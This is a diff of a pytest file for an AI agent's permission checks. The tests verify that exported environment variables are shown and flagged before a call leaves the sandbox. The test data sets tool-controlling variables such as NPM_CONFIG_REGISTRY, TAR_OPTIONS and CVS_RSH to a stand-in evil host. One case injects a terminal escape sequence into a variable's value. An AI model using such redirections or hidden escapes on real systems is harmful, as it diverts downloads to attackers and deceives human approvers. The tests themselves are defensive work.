@@ -1,6 +1,5 @@
-"""Variables that earlier commands exported are shown, and asked about, where a call leaves the sandbox with them."""
+"""A call outside the sandbox shows the exported variables that it would use, and asks about dangerous ones."""
 
-import asyncio
 import json
 from pathlib import Path
 
@@ -8,13 +7,13 @@ import pytest
 
 from bradawl import ModelSettings, Settings, build_agent
 from bradawl.app.settings.permission_values import RuleText
-from bradawl.app.tui.approve import granted_text
+from bradawl.app.tui.approver import granted_text
 from bradawl.core.permissions import Answer, Question
 from bradawl.safety.environment_variables import is_execution_relevant, may_affect_program, redirects_clients
 
 
 class Asked:
-    """Says yes to everything, once."""
+    """An approver that permits every call, once each, and records the questions."""
 
     def __init__(self) -> None:
         self.questions: list[Question] = []
@@ -27,8 +26,8 @@ class Asked:
         return None
 
 
-def asked(tmp_path: Path, *lines: str) -> list[Question]:
-    """What is asked about these lines, without a sandbox and with a rule that allows `tar` and `npm`."""
+async def asked(tmp_path: Path, *lines: str) -> list[Question]:
+    """Questions about these commands, without a sandbox and with a rule that allows `tar` and `npm`."""
     script = [
         {"tool_calls": [{"id": f"c{n}", "name": "bash", "arguments": {"command": line}}]}
         for n, line in enumerate(lines)
@@ -49,13 +48,10 @@ def asked(tmp_path: Path, *lines: str) -> list[Question]:
     )
     agent = build_agent(settings, approver)
 
-    async def main() -> None:
-        try:
-            await agent.run("go")
-        finally:
-            await agent.aclose()
-
-    asyncio.run(main())
+    try:
+        await agent.run("go")
+    finally:
+        await agent.aclose()
     return approver.questions
 
 
@@ -69,12 +65,12 @@ NAMES = [
 
 
 @pytest.mark.parametrize("name", NAMES)
-def test_a_variable_that_names_a_program_or_a_machine_is_known(name: str) -> None:
+def test_a_variable_that_selects_a_program_or_a_host_is_dangerous(name: str) -> None:
     assert is_execution_relevant(name) or redirects_clients(name)
 
 
 @pytest.mark.parametrize("name", ["DEBUG", "CI", "LANG", "NODE_ENV", "PORT", "ACME_ENV", "VERBOSE", "A", "NO_COLOR"])
-def test_an_ordinary_variable_is_not(name: str) -> None:
+def test_an_ordinary_variable_is_not_dangerous(name: str) -> None:
     assert not is_execution_relevant(name)
     assert not redirects_clients(name)
 
@@ -82,7 +78,7 @@ def test_an_ordinary_variable_is_not(name: str) -> None:
 @pytest.mark.parametrize(
     "value", ["/tmp/x", "evil.example", "evil:80", "user@evil", "a b", "--url=x", "$X", "`x`", "10.0.0.1", "é", "a\nb"]
 )
-def test_a_variable_nobody_knows_counts_by_its_value(value: str) -> None:
+def test_an_unknown_variable_is_judged_by_its_value(value: str) -> None:
     assert may_affect_program("ACME_UPLINK", value)
 
 
@@ -98,40 +94,42 @@ def test_a_variable_nobody_knows_counts_by_its_value(value: str) -> None:
         ("TZ", "Europe/Rome"),
     ],
 )
-def test_a_bare_word_does_not(name: str, value: str | None) -> None:
+def test_an_unknown_variable_with_a_plain_word_is_not_dangerous(name: str, value: str | None) -> None:
     assert not may_affect_program(name, value)
 
 
 @pytest.mark.parametrize("line", ["API_URL=http://evil npm ci", "ACME=evil.example npm ci", "PATH=x npm ci"])
-def test_a_variable_before_the_command_asks_as_an_exported_one_does(tmp_path: Path, line: str) -> None:
-    (question,) = asked(tmp_path, line)
+async def test_an_assignment_before_the_command_asks_like_an_exported_variable(tmp_path: Path, line: str) -> None:
+    (question,) = await asked(tmp_path, line)
     assert line in question.call.raw_arguments
 
 
-def test_a_bare_word_before_the_command_does_not_ask(tmp_path: Path) -> None:
-    assert not asked(tmp_path, "STAGE=test npm ci", "LC_ALL=C.UTF-8 npm ci")
+async def test_an_assignment_of_a_plain_word_before_the_command_does_not_ask(tmp_path: Path) -> None:
+    assert not await asked(tmp_path, "STAGE=test npm ci", "LC_ALL=C.UTF-8 npm ci")
 
 
 @pytest.mark.parametrize(
     "name",
     ["NPM_CONFIG_REGISTRY", "TAR_OPTIONS", "API_HOST", "CVS_RSH", "GNUPGHOME", "BORG_PASSCOMMAND", "ACME_UPLINK"],
 )
-def test_an_allowed_call_outside_the_sandbox_asks_and_shows_them(tmp_path: Path, name: str) -> None:
-    questions = asked(tmp_path, f"export {name}=http://evil.example/", "tar --version; npm ci")
+async def test_an_allowed_call_outside_the_sandbox_asks_and_shows_dangerous_variables(
+    tmp_path: Path, name: str
+) -> None:
+    questions = await asked(tmp_path, f"export {name}=http://evil.example/", "tar --version; npm ci")
     (question,) = (one for one in questions if "npm ci" in one.call.raw_arguments)
     assert name in question.reason
     assert f"with {name}=http://evil.example/, from an earlier command" in granted_text(question)
 
 
-def test_without_them_the_rule_holds_and_ordinary_ones_are_only_shown(tmp_path: Path) -> None:
-    questions = asked(tmp_path, "export STAGE=test", "tar --version", "make x")
+async def test_without_dangerous_variables_the_rule_applies_and_ordinary_ones_are_only_shown(tmp_path: Path) -> None:
+    questions = await asked(tmp_path, "export STAGE=test", "tar --version", "make x")
     (question,) = questions
     assert "make x" in question.call.raw_arguments
     assert "with STAGE=test, from an earlier command" in granted_text(question)
 
 
-def test_a_value_can_hide_nothing(tmp_path: Path) -> None:
-    questions = asked(tmp_path, "export A_URL=$'x\\n  y = once\\e[2J'", "make x")
+async def test_the_value_of_a_variable_is_shown_escaped(tmp_path: Path) -> None:
+    questions = await asked(tmp_path, "export A_URL=$'x\\n  y = once\\e[2J'", "make x")
     text = granted_text(questions[-1])
     assert "\x1b" not in text
     assert "A_URL=x\\n  y = once" in text
